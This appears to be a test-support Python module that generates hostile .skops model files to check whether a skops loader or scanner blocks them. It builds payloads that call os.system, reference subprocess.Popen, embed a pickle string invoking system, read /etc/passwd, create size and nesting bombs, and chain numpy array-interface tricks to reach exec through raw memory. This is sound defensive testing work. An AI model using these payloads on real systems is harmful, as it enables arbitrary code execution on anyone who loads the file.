"""skops files: JSON that names constructors, functions and types, in archives that may mislead."""

from __future__ import annotations

import io
import itertools
import json
import zipfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import sklearn

from tests.support.hostile.memory import offset_of
from tests.support.hostile.payload import Payload, touch

Node = dict[str, Any]
_ids = itertools.count(1)
HOLDERS = {
    "kernel": ("sklearn.gaussian_process.kernels", "ConstantKernel"),
    "estimator": ("sklearn.linear_model._ridge", "Ridge"),
    "transformer": ("sklearn.preprocessing._data", "StandardScaler"),
}
"""Classes that are given an attribute by which numpy finds an address."""
SYSTEM = ("system",)
MEMORY = (
    ("matrix", "masked", "asarray"),
    ("constructor", "frombuffer"),
    ("kernel", "estimator", "transformer"),
)


def skops_files(marks: Path) -> Iterator[Payload]:
    """The original design, its variants and others."""
    yield from _through_memory(marks)
    yield from _by_name(marks)
    yield from _hostile_state(marks)
    yield from _archives()


def _through_memory(marks: Path) -> Iterator[Payload]:
    for window, reader, holder in itertools.product(*MEMORY):
        name = f"skops_memory_{window}_{reader}_{holder}"
        code = f"__import__('os').system({touch(marks, name)!r})"
        culprits = (
            "numpy.ndarray",
            "numpy.matrix",
            "MaskedArray",
            "asarray",
            "frombuffer",
            "_reconstructor",
            "builtins.int",
        )
        yield Payload(name, archive(_Memory(window, reader, holder).root(code)), culprits, ".skops")


def _by_name(marks: Path) -> Iterator[Payload]:
    """Names in each kind of node that can hold one."""
    command = text(touch(marks, "skops_call"))
    roots: dict[str, Node] = {
        "reduce_of_system": call("os", "system", command),
        "object_of_partial": instance("functools", "partial", {"func": function("os", "system")}),
        "partial_node": node(
            "PartialNode",
            "functools",
            "partial",
            func=function("os", "system"),
            args=tuple_of(command),
            keywords=mapping({}),
            namespace=mapping({}),
        ),
        "function_of_system": function("os", "system"),
        "function_with_dots": function("sklearn", "os.system"),
        "type_of_popen": kind("subprocess", "Popen"),
        "method_of_system": node(
            "MethodNode", "os", "system", obj=function("os", "system"), func="system"
        ),
        "operator_node": node(
            "OperatorFuncNode", "operator", "methodcaller", attrs=tuple_of(text("system"), command)
        ),
        "module_that_runs": function("numpy.f2py.__main__", "main"),
        "antigravity": kind("antigravity", "webbrowser"),
        "unknown_loader": node("EvilNode", "builtins", "exec", content=command),
        "cached_node": node("CachedNode", "builtins", "exec", __id__=1),
        "default_dict": node(
            "DefaultDictNode",
            "collections",
            "defaultdict",
            content={"main": mapping({}), "default_factory": function("os", "system")},
        ),
        "random_state": node("RandomStateNode", "os", "system", content=mapping({})),
        "generator": node(
            "RandomGeneratorNode",
            "numpy.random._generator",
            "Generator",
            content={"bit_generator": kind("os", "system"), "state": mapping({})},
        ),
        "sparse": node(
            "SparseMatrixNode", "scipy.sparse", "csr_matrix", type="scipy", file="nothing.npz"
        ),
        "masked": node(
            "MaskedArrayNode",
            "numpy.ma",
            "MaskedArray",
            content={"data": call("os", "system", command), "mask": js(False)},
        ),
        "dtype": node("DTypeNode", "numpy", "dtype", content=call("os", "system", command)),
        "bytes_of_file": node("BytesNode", "builtins", "bytes", file="/etc/passwd"),
        "slice": node(
            "SliceNode",
            "builtins",
            "slice",
            content={"start": 0, "stop": 1, "step": call("os", "system", command)},
        ),
    }
    for name, root in roots.items():
        culprits = (
            root["__class__"],
            root["__loader__"],
            *SYSTEM,
            "nothing",
            "passwd",
            "random state",
            "generator",
            "masked array",
        )
        yield Payload(f"skops_{name}", archive(root), culprits, ".skops")


def _hostile_state(marks: Path) -> Iterator[Payload]:
    """Estimators of scikit-learn with attributes that none has."""
    command = text(touch(marks, "skops_state"))
    states: dict[str, tuple[str, Node]] = {
        "predict": ("predict", function("os", "system")),
        "get_params": ("get_params", js(1)),
        "class": ("__class__", kind("numpy", "matrix")),
        "dict": ("__dict__", mapping({})),
        "setstate": ("__setstate__", function("os", "system")),
        "tags": ("__sklearn_tags__", js(1)),
        "array_interface": ("__array_interface__", mapping({})),
        "reduce": ("__reduce__", tuple_of(function("os", "system"), command)),
    }
    for name, (key, value) in states.items():
        root = instance(
            "sklearn.linear_model._logistic",
            "LogisticRegression",
            {"_sklearn_version": js(sklearn.__version__), "C": js(1.0), key: value},
        )
        yield Payload(
            f"skops_attribute_{name}", archive(root), (key, *SYSTEM, "numpy.matrix"), ".skops"
        )
    root = instance(
        "sklearn.preprocessing._function_transformer",
        "FunctionTransformer",
        {"func": function("os", "system")},
    )
    yield Payload("skops_transformer", archive(root), SYSTEM, ".skops")
    yield Payload("skops_deep", _deep_archive(), (), ".skops")


def _archives() -> Iterator[Payload]:
    """Archives that are none, hold an object array, or claim more than they have."""
    whole = archive(js(1))
    yield Payload("skops_not_zip", b"no archive", (), ".skops")
    yield Payload("skops_cut", whole[: len(whole) // 2], (), ".skops")
    yield Payload("skops_no_schema", _zip({"other.json": b"{}"}), (), ".skops")
    yield Payload("skops_schema_no_object", _zip({"schema.json": b"[1, 2]"}), (), ".skops")
    yield Payload("skops_schema_no_json", _zip({"schema.json": b"{" * 50}), (), ".skops")
    objects = _npy("|O", (1,), b"cos\nsystem\n(S'true'\ntR.")
    array = node("NdArrayNode", "numpy", "ndarray", type="numpy", file="a.npy")
    yield Payload("skops_objects_in_npy", archive(array, {"a.npy": objects}), (), ".skops")
    yield Payload(
        "skops_shape_too_large",
        archive(array, {"a.npy": _npy("<f8", (2**40,), b"\0" * 8)}),
        (),
        ".skops",
    )
    yield Payload(
        "skops_negative_shape",
        archive(array, {"a.npy": _npy("<f8", (-1, -8), b"\0" * 64)}),
        (),
        ".skops",
    )
    yield Payload(
        "skops_header_that_calls",
        archive(array, {"a.npy": _npy("__import__('os')", (1,), b"")}),
        (),
        ".skops",
    )
    bomb = _zip({"schema.json": b'{"a": "' + b" " * (100 << 20) + b'"}'})
    yield Payload("skops_bomb", bomb, (), ".skops")


# Parts of a description


def node(loader: str, module: str, name: str, **rest: Any) -> Node:
    """Any node of skops."""
    return {
        "__class__": name,
        "__module__": module,
        "__loader__": loader,
        "__id__": next(_ids),
        **rest,
    }


def js(value: Any) -> Node:
    """A plain value."""
    return node("JsonNode", "builtins", "str", content=json.dumps(value), is_json=True)


def text(value: str) -> Node:
    """A str."""
    return js(value)


def tuple_of(*nodes: Node) -> Node:
    """A tuple."""
    return node("TupleNode", "builtins", "tuple", content=list(nodes))


def list_of(*nodes: Node) -> Node:
    """A list."""
    return node("ListNode", "builtins", "list", content=list(nodes))


def call(module: str, name: str, *arguments: Node) -> Node:
    """What skops calls with any arguments."""
    return node("ConstructorFromReduceNode", module, name, content=tuple_of(*arguments))


def kind(module: str, name: str) -> Node:
    """A type as a value."""
    return node("TypeNode", module, name)


def function(module: str, name: str) -> Node:
    """A function as a value."""
    return node("FunctionNode", module, name, content={"module_path": module, "function": name})


def mapping(content: dict[str, Node]) -> Node:
    """A dict with keys of text."""
    keys = list_of(*[kind("builtins", "str") for _ in content])
    return node("DictNode", "builtins", "dict", content=content, key_types=keys)


def instance(module: str, name: str, state: dict[str, Node]) -> Node:
    """An object with its state."""
    return node("ObjectNode", module, name, content=mapping(state))


def archive(root: Node, members: dict[str, bytes] | None = None) -> bytes:
    """A description as a skops file."""
    from skops import __version__
    from skops.io._protocol import PROTOCOL

    described = json.dumps({**root, "protocol": PROTOCOL, "_skops_version": __version__}).encode()
    return _zip({"schema.json": described, **(members or {})})


def _zip(members: dict[str, bytes]) -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as target:
        for name, data in members.items():
            target.writestr(name, data)
    return file.getvalue()


def _deep_archive() -> bytes:
    """A list in a list, 100,000 times: more than a parser that calls itself can follow."""
    begin = (
        b'{"__class__": "list", "__module__": "builtins", "__loader__": "ListNode", "content": ['
    )
    return _zip({"schema.json": begin * 100_000 + b"]}" * 100_000})


def _npy(descr: str, shape: tuple[int, ...], data: bytes) -> bytes:
    header = (
        repr({"descr": descr, "fortran_order": False, "shape": shape}).encode().ljust(117) + b"\n"
    )
    return b"\x93NUMPY\x01\x00" + len(header).to_bytes(2, "little") + header + data


class _Memory:
    """The way to ``exec`` of :mod:`tests.support.hostile.memory`, in skops's nodes."""

    def __init__(self, window: str, reader: str, holder: str) -> None:
        self.window, self.reader, self.holder = window, reader, holder

    def root(self, code: str) -> Node:
        """A description that calls ``exec`` with ``code``, as it is made by CPython 3.11."""
        at = offset_of("exec")
        start = self.address(function("copyreg", "_reconstructor"))
        keys = self.read(self.read(start, 24), 32)
        slot = self.read(self.address(self.view(keys, at)), 16)
        array = call(
            "numpy.ma", "MaskedArray", self.interface(slot, 1, "|O"), js(False), js(None), js(False)
        )
        items = call("builtins", "list", array)
        return node("DictNode", "builtins", "dict", content={code: js(None)}, key_types=items)

    def number(self, value: Node) -> Node:
        return call("builtins", "int", value)

    def address(self, value: Node) -> Node:
        objects = node(
            "NdArrayNode", "numpy", "ndarray", type="json", content=[value], shape=tuple_of(js(1))
        )
        return self.number(self.ndarray(js("<u8"), objects))

    def ndarray(self, *arguments: Node) -> Node:
        if self.reader == "constructor":
            return call("numpy", "ndarray", tuple_of(), *arguments)
        kind_, buffer, *offset = arguments
        return call("numpy", "squeeze", call("numpy", "frombuffer", buffer, kind_, js(1), *offset))

    def interface(self, address: Node, size: int, typestr: str) -> Node:
        content = mapping(
            {
                "data": tuple_of(address, js(False)),
                "shape": tuple_of(js(size)),
                "typestr": js(typestr),
                "version": js(3),
            }
        )
        return instance(*HOLDERS[self.holder], {"__array_interface__": content})

    def view(self, address: Node, offset: int) -> Node:
        there = self.interface(address, offset + 8, "|u1")
        windows = {
            "matrix": call("numpy", "matrix", there, js(None), js(False)),
            "masked": call("numpy.ma", "MaskedArray", there, js(False), js(None)),
            "asarray": call("numpy", "asarray", there),
        }
        return self.ndarray(js("<u8"), windows[self.window], js(offset))

    def read(self, address: Node, offset: int) -> Node:
        return self.number(self.view(address, offset))
